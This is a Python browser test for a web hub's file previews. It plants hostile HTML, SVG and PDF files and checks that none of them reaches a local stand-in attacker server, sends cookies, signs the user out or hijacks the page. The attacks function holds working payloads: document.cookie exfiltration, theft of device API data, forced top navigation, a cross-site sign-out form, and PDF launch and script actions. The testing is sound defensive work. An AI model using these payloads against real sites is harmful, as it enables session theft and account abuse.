"""Files of an answer that attack who looks at them: pages, drawings and PDF, shown by the real page in a real browser.

The attacker writes what a task leaves. A file must do nothing: run no script, reach no server of the attacker, ask the
hub for nothing with the person's cookie, and neither leave nor replace the page that shows it.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import quote

from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Request, sync_playwright

from tests.browsers import whole_browser
from tests.e2e import answers
from tests.e2e.conftest import FLAGS, WAIT_MS
from tests.e2e.stack import SERVER, Stack
from tests.guard.drivers.tally import AttackTally, Stopwatch
from tests.served import Quiet, Served

SETTLED_MS = 600
"""An attack acts at once, or when its link is pressed."""

PRESSED = frozenset({"link-out.html", "link-in.html", "link-top.html", "link-new.html", "form.html"})
"""Pages that wait for a press: all of the page is one link or one button."""

_COVER = "style='position:fixed;inset:0;display:block;width:100%;height:100%;font-size:40px'"


def attacks(evil: str, hub: str) -> dict[str, str]:
    """Return the hostile files by name; `evil` is the attacker's own server."""
    told = f"fetch('{evil}/told?c='+document.cookie);new Image().src='{evil}/image';"
    top = f"try{{top.location='{evil}/top'}}catch(e){{}}"
    own = f"fetch('{hub}/api/v1/devices',{{credentials:'include'}}).then(r=>r.text()).then(t=>fetch('{evil}/own?'+t))"
    action = "<< /Type /Action /S /{kind} {rest} >>"
    return {
        "script.html": f"<p>x</p><script>{told}{top};{own}</script>",
        "handlers.html": f'<body onload="{told}"><img src=x onerror="{told}">'
        f'<details open ontoggle="{told}">x</details>'
        f'<svg onload="{told}"></svg><input autofocus onfocus="{top}"><a href="javascript:{told}">x</a>',
        "refresh.html": f"<meta http-equiv=refresh content='0;url={evil}/refresh'>x",
        "fetched.html": f"<img src={evil}/img><video src={evil}/video autoplay></video>"
        f"<audio src={evil}/audio autoplay></audio><link rel=stylesheet href={evil}/css>"
        f"<style>@import '{evil}/import';@font-face{{font-family:f;"
        f"src:url({evil}/font)}}body{{font-family:f;background:url({evil}/background)}}</style>"
        f"<link rel=prefetch href={evil}/prefetch><link rel=preload as=image href={evil}/preload>"
        f"<link rel=modulepreload href={evil}/module><link rel=icon href={evil}/icon><script src={evil}/js></script>x",
        "fetched-own.html": f"<img src={hub}/api/v1/devices><img src=/api/v1/session><link rel=stylesheet href=/x.css>"
        "<iframe src=/api/v1/devices></iframe><object data=/api/v1/devices></object>x",
        "framed.html": f'<iframe src={evil}/frame></iframe><iframe srcdoc="<script>{told}</script>"></iframe>'
        f"<object data={evil}/object></object><embed src={evil}/embed><iframe src='data:text/html,<script>{told}"
        f"</script>'></iframe><frame src={evil}/f><portal src={evil}/p></portal>",
        "base.html": f"<base href={evil}/ target=_top><img src=based><link rel=stylesheet href=based.css>x",
        "form.html": f"<form action={hub}/api/v1/sign-out method=post target=_top><button {_COVER}>x</button></form>",
        "link-out.html": f"<a href={evil}/link ping={evil}/ping {_COVER}>x</a>",
        "link-in.html": f"<a href={hub}/api/v1/devices {_COVER}>x</a>",
        "link-top.html": f"<a href={evil}/link-top target=_top {_COVER}>x</a>",
        "link-new.html": f"<a href={evil}/link-new target=_blank rel=opener {_COVER}>x</a>",
        "drawing.svg": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='200' "
        f"height='200' onload=\"{told}\"><script>{told}{top}</script><rect width='200' height='200'/>"
        f"<image href='{evil}/svg-image' width='9' height='9'/><use xlink:href='{evil}/use#x'/>"
        f"<style>@import '{evil}/svg-css';</style><foreignObject width='9' height='9'>"
        f"<iframe xmlns='http://www.w3.org/1999/xhtml' src='{evil}/svg-frame'></iframe></foreignObject></svg>",
        "action.pdf": answers.pdf(action.format(kind="URI", rest=f"/URI ({evil}/uri)")),
        "launch.pdf": answers.pdf(action.format(kind="Launch", rest=f"/F ({evil}/launch)")),
        "script.pdf": answers.pdf(
            action.format(
                kind="JavaScript",
                rest=f"/JS (app.launchURL\\('{evil}/js', false\\); this.submitForm\\('{evil}/form'\\); "
                f"app.openDoc\\('{evil}/doc'\\);)",
            )
        ),
        "submit.pdf": answers.pdf(action.format(kind="SubmitForm", rest=f"/F << /FS /URL /F ({evil}/submit) >>")),
        "page.pdf": f"<html><script>{told}{top};{own}</script><img src={evil}/img></html>",
    }


@dataclass
class Evil:
    """The attacker's server: which paths were asked of it, and files that it serves with nothing to hold them."""

    url: str
    asked: list[str] = field(default_factory=list)
    files: dict[str, str] = field(default_factory=dict)


@contextmanager
def evil_server() -> Iterator[Evil]:
    class Handler(Quiet, BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            name = self.path.removeprefix("/file/")
            if name in evil.files:
                self._give(evil.files[name].encode())
                return
            if self.path != "/favicon.ico":  # the browser asks for it by itself, for a page of this very server
                evil.asked.append(self.path)
            self._give(b"")

        def do_POST(self) -> None:
            self.do_GET()

        def _give(self, body: bytes) -> None:
            self.reply(200, body, Content_Type="text/html; charset=utf-8")

    with Served(Handler) as served:
        evil = Evil(served.url)
        yield evil


def drive(home: Path, clock: Stopwatch, seed: int) -> AttackTally:
    tally, chance = AttackTally(), random.Random(seed)
    stack = Stack(home)
    try:
        stack.up("--demo", "--lab", "--no-fault")
        stack.until_online(SERVER)
        with evil_server() as evil, browsing() as browser:
            look_at_all(stack, browser, evil, clock, tally, chance)
    finally:
        stack.end()
    return tally


@contextmanager
def browsing() -> Iterator[Browser]:
    """Yield the whole browser: the headless shell has no viewer of PDF files."""
    with sync_playwright() as play:
        made = play.chromium.launch(executable_path=whole_browser(), args=FLAGS)
        yield made
        made.close()


def look_at_all(
    stack: Stack, browser: Browser, evil: Evil, clock: Stopwatch, tally: AttackTally, chance: random.Random
) -> None:
    """Have a task leave the hostile files, and look at each of them as a person does, in every way there is."""
    files = attacks(evil.url, stack.url)
    made = stack.submit(answers.of_files("Report", files))
    assert stack.until_state(made, "succeeded", "failed") == "succeeded"
    context = browser.new_context(base_url=stack.url, viewport={"width": 1280, "height": 800}, accept_downloads=True)
    context.set_default_timeout(WAIT_MS)
    page = context.new_page()
    page.goto(stack.sign_in_link())
    page.get_by_role("heading", name="Home", exact=True).wait_for()
    order = list(enumerate(sorted(files), 1))
    while True:
        chance.shuffle(order)
        for number, name in order:
            key = "make" if number == 1 else f"make~{number}"
            path = chance.choice((f"?answer={quote(key)}", f"/answer/{quote(key)}"))
            _look(context, stack.url, f"/constellations/{made}{path}", name, evil, tally)
        if clock.over():
            break
    context.close()


def _look(context: BrowserContext, hub: str, path: str, name: str, evil: Evil, tally: AttackTally) -> None:
    """Look at one file: on its page first, then in a tab of its own as the page's link opens it."""
    page = context.new_page()
    tally.attacks += 1
    evil.asked.clear()
    asked: list[Request] = []
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: _note(dialog, dialogs))
    # Those that were answered: what the browser holds back never gets headers.
    page.on("requestfinished", lambda request: asked.append(request))
    page.goto(path)
    shown = page.locator("img.preview, iframe.preview")
    shown.first.wait_for(state="attached")
    address = shown.first.get_attribute("src") or ""
    page.wait_for_timeout(SETTLED_MS)
    here = page.url
    if name in PRESSED:
        box = shown.first.bounding_box()
        assert box is not None, f"{name} is not to be seen"
        page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        page.wait_for_timeout(SETTLED_MS)
    found = [f"reached {one}" for one in evil.asked]
    found += [f"opened a dialog: {one}" for one in dialogs]
    if page.url != here or not page.get_by_role("main").is_visible():
        found.append(f"moved the page to {page.url}")
    if len(context.pages) != 2:
        found.append(f"opened {[one.url for one in context.pages]}")
    found += [f"asked {one.url} with the cookie" for one in asked if _is_of_the_file(one, hub, page, address)]
    if not page.evaluate("async () => (await fetch('/api/v1/session')).ok"):
        found.append("signed the person out")
    found += _alone(context, hub + address, name, evil)
    tally.effects += [f"{name} on {path}: {one}" for one in found]
    for other in context.pages[1:]:
        other.close()


def _note(dialog: Dialog, dialogs: list[str]) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


def _is_of_the_file(request: Request, hub: str, page: Page, address: str) -> bool:
    """Whether a frame that shows a file, and not the page, sent this with the person's cookie."""
    if request.frame == page.main_frame or request.url.endswith(address):
        return False
    if not request.url.startswith(hub):  # parts of the browser's own viewer, which have no headers to ask for
        return False
    return "cookie" in request.all_headers()


def _alone(context: BrowserContext, address: str, name: str, evil: Evil) -> list[str]:
    """Open the file by its own address; return what it did without a press: a link pressed there may lead out."""
    evil.asked.clear()
    tab = context.new_page()
    if name.endswith(".pdf"):
        # Without a viewer for it the browser saves it, which ends the navigation.
        tab.evaluate("address => { location.href = address }", address)
    else:
        tab.goto(address)
    tab.wait_for_timeout(SETTLED_MS)
    found = [f"reached {one} in a tab of its own" for one in evil.asked]
    if tab.url not in (address, "about:blank"):
        found.append(f"moved its tab to {tab.url}")
    tab.close()
    return found
